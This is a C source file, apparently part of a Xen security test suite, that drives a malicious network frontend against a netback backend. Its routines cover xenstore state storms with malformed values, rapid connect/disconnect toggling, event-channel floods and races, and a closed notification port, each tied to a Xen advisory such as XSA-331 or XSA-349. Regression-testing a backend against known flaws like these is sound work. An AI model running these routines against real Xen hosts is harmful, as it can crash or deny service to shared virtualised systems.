// SPDX-License-Identifier: GPL-2.0
/* Attacks on a vif from beside its rings: states, xenstore, events. */
#include "net_attack.h"

#include <stdlib.h>
#include <string.h>

static void attack_state_storm(struct net *net)
{
	static const char *const values[] = {
		"0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "99", "-1",
		"4294967295", "4294967300", "banana", "", "4", "7", "4", "1",
	};
	uint32_t n = 99;
	unsigned int i;

	front_reset(&net->front);
	net_offer_rings(net, &net_plain);
	for (i = 0; i < often(200); i++) {
		n = n * 1664525 + 1013904223;
		front_storm(&net->front,
			    values[(n >> 16) % ARRAY_SIZE(values)]);
		if (n >> 28 == 0)
			nap(3000);
	}
	front_state(&net->front, CLOSED);
	front_wait(&net->front, 1u << CLOSED);
	net_free_rings(net);
}

static void put_packets(struct net_queue *queue, const struct pages *pages)
{
	unsigned int i;

	queue->tx.prod = queue->tx.s->rsp_prod;
	queue->ids.nr = 0;
	queue->extras = 0;
	for (i = 0; i < 100; i++) {
		struct net_tx tx = { .gref = pages->refs[0], .size = 500 };
		struct net_extra_info mcast = {
			.type = i % 16 ? EXTRA_MCAST_ADD : EXTRA_MCAST_DEL,
			.u = { 1, 0, 0x5e, 0, 0, i },
		};

		if (i % 8 == 0)
			tx.flags = EXTRA_INFO;
		net_put_tx(queue, &tx);
		if (tx.flags)
			net_put_extra(queue, &mcast);
	}
	net_push(queue, &queue->tx);
	net_notify(queue, &queue->tx);
}

/* Connect and go away, with packets on their way, without waiting. */
static void attack_toggle(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int round;

	front_reset(&net->front);
	net_offer_rings(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	for (round = 0; round < often(30); round++) {
		front_state(&net->front, CONNECTED);
		if (round % 3 == 0)
			front_wait(&net->front, 1u << CONNECTED);
		put_packets(queue, &pages);
		if (round % 2)
			nap(round * 50);
		front_state(&net->front, CLOSED);
		if (round % 3 == 0)
			front_wait(&net->front, 1u << CLOSED);
		front_state(&net->front, INITIALISING);
	}
	front_settle(&net->front);
	net_free_rings(net);
	pages_unshare(&net->front, &pages);
}

/* Headroom of any size, asked for again and again. */
static void attack_reconfigure(struct net *net)
{
	static const char *const values[] = { "0", "256", "2048", "2049",
					      "4096", "32767", "65535",
					      "4294967295", "-1", "banana" };
	unsigned int i;

	net_connect(net, &net_plain);
	for (i = 0; i < 60; i++) {
		front_write(&net->front, "xdp-headroom", "%s",
			    values[i % ARRAY_SIZE(values)]);
		front_state(&net->front, RECONFIGURING);
		if (i % 2)
			front_wait(&net->front, 1u << RECONFIGURED);
		front_state(&net->front, CONNECTED);
		if (i % 2)
			front_wait(&net->front, 1u << CONNECTED);
	}
	front_remove(&net->front, "xdp-headroom");
	front_state(&net->front, RECONFIGURING);
	front_wait(&net->front, 1u << RECONFIGURED);
	front_state(&net->front, CONNECTED);
	front_wait(&net->front, 1u << CONNECTED);
}

static void attack_vanish(struct net *net)
{
	struct pages pages;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	put_packets(&net->queues[0], &pages);
	say("ended vanish: any");
	exit(0);
}

/* Nodes that are watched, written without end (XSA-349). */
static void attack_watch_storm(struct net *net)
{
	unsigned int i;

	net_connect(net, &net_plain);
	for (i = 0; i < often(500); i++) {
		front_write(&net->front, "request-multicast-control", "%u",
			    i % 2);
		front_state(&net->front, CONNECTED);
	}
	front_remove(&net->front, "request-multicast-control");
}

static void attack_event_storm(struct net *net)
{
	unsigned int i;

	net_connect(net, &net_plain);
	for (i = 0; i < often(4000); i++)
		net_notify(&net->queues[0], &net->queues[0].tx);
}

struct ringer {
	struct net *net;
	volatile bool stop, stopped;
};

static void *ring_bell(void *arg)
{
	struct ringer *ringer = arg;

	while (!ringer->stop)
		if (ringer->net->queues[0].tx.port)
			net_notify(&ringer->net->queues[0],
				   &ringer->net->queues[0].tx);
	ringer->stopped = true;
	return NULL;
}

/* Events that come while the backend connects and disconnects. */
static void attack_event_race(struct net *net)
{
	struct ringer ringer = { net };
	unsigned int i;

	/* before there is a port the thread looks at this */
	net->queues[0].front = &net->front;
	thread_start(ring_bell, &ringer);
	for (i = 0; i < 10; i++) {
		net_connect(net, &net_plain);
		if (i % 2)
			net_echo(&net->queues[0], 100);
		front_state(&net->front, CLOSED);
		front_wait(&net->front, 1u << CLOSED);
		if (i == 9) {
			ringer.stop = true;
			while (!ringer.stopped)
				nap(1000);
		}
		net_free_rings(net);
		net->queues[0].front = &net->front;
	}
}

/* The port that the backend notifies has gone. */
static void attack_port_closed(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	unsigned int round, i;

	for (round = 0; round < 5; round++) {
		struct pages pages = pages_share(&net->front, 1, true);
		struct net_tx_rsp rsp;

		net_connect(net, &net_plain);
		put_packets(queue, &pages);
		xenevtchn_unbind(net->front.evt, queue->tx.port);
		queue->tx.port = port_open(&net->front);
		queue->rx.port = queue->tx.port;
		for (i = 0; i < patience_s() * 1000; i++) {
			if (queue->tx.cons == queue->tx.pushed)
				break;
			if (!net_poll_tx(queue, &rsp))
				nap(1000);
		}
		if (queue->tx.cons != queue->tx.pushed)
			die("%u responses are missing",
			    queue->tx.pushed - queue->tx.cons);
		net_close(net);
		pages_unshare(&net->front, &pages);
	}
}

const struct net_attack net_state_attacks[] = {
	{ "state-storm", "xenbus.h", NET_ANY, attack_state_storm },
	{ "toggle", "CVE-2026-99286", NET_ANSWERED, attack_toggle },
	{ "reconfigure", "xenbus.h", NET_ANSWERED, attack_reconfigure },
	{ "vanish", "xenbus.h", NET_ANY, attack_vanish },
	{ "watch-storm", "XSA-349", NET_ANSWERED, attack_watch_storm },
	{ "event-storm", "XSA-332", NET_ANSWERED, attack_event_storm },
	{ "event-race", "XSA-331,XSA-441", NET_ANSWERED, attack_event_race },
	{ "port-closed", "XSA-331", NET_ANSWERED, attack_port_closed },
};

const unsigned int net_nr_state_attacks = ARRAY_SIZE(net_state_attacks);
